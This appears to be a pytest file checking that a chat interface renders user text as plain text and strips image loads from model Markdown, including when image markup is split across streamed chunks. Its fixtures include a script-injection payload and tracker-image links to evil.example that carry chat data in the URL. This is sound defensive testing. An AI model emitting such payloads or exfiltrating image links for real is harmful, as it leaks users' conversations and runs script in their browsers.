"""User-written text renders as plain text: checked by rendering it with a CommonMark parser."""

from __future__ import annotations

import html
import re

import pytest

from tests.markdown_view import bare_links, rendered
from ui.text import model_markdown, plain, tame_stream

NASTY = [
    "[click me](http://evil.example/phish)",
    "![tracker](http://evil.example/pixel.png?chat=secret)",
    "<img src=x onerror=alert(1)> <script>alert(1)</script>",
    "# Heading\n> quote\n- list item\n1. numbered",
    "**bold** _italic_ `code` ~~strike~~ $x^2$ :smile:",
    "    indented code block\n\ttab",
    "http://bare.example/path and www.example.com and me@example.com",
    "back\\slash \"quotes\" 'single' &amp; &lt;",
    "line one\nline two\r\nline three",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[ref][1]\n\n[1]: http://evil.example",
    "😀 émoji ünïcødé",
]

_TAG = re.compile(r"<(/?)(\w+)[^>]*>")


def visible_text(page_html: str) -> str:
    text = re.sub(r"</p>\s*<p>", "\n\n", page_html)
    text = re.sub(r"<br\s*/?>\n?", "\n", text)
    text = _TAG.sub("", text)
    text = html.unescape(text).replace("\u200b", "").replace("\u00a0" * 4, "\t")
    return text.replace("\u00a0", " ").strip()


@pytest.mark.parametrize("text", NASTY)
def test_plain_text_renders_as_typed_with_no_markup(text):
    output = rendered(plain(text))
    tags = {match.group(2) for match in _TAG.finditer(output)}
    assert tags <= {"p", "br"}, tags
    expected = "\n".join(line.rstrip() for line in text.replace("\r\n", "\n").split("\n"))
    assert visible_text(output) == expected.strip()


def test_bare_links_are_broken_for_autolinkers():
    for trigger in ("http://", "www.", "a@b"):
        assert trigger not in plain(f"see {trigger}example.com")


@pytest.mark.parametrize(
    "typed", ["see www.collector.example/?d=1", "WWW.collector.example", "(www.x.example)"]
)
def test_a_www_name_someone_wrote_is_no_link_in_streamlits_renderer(typed):
    """A zero-width space after "www." is a character of the host to micromark, which links
    `www.\u200bcollector.example` (and the browser drops the space from the host): the space
    goes between "www" and "."."""
    assert bare_links(plain(typed)) == []


def test_model_markdown_keeps_formatting_but_loads_no_images():
    output = rendered(model_markdown("**Plan** ![x](http://evil.example/p.png) [docs](http://d)"))
    assert "<strong>Plan</strong>" in output and "<img" not in output


def test_image_markup_split_across_stream_chunks_is_neutralised():
    chunks = ["Look: !", "[pixel](http://evil.example/p.png?c=secret) done!"]
    output = rendered("".join(tame_stream(chunks)))
    assert "<img" not in output and output.rstrip().endswith("done!</p>")


def test_counts_read_in_the_right_number():
    from ui.text import counted

    assert [counted(n, "session") for n in (0, 1, 2, 1204)] == [
        "0 sessions",
        "1 session",
        "2 sessions",
        "1,204 sessions",
    ]
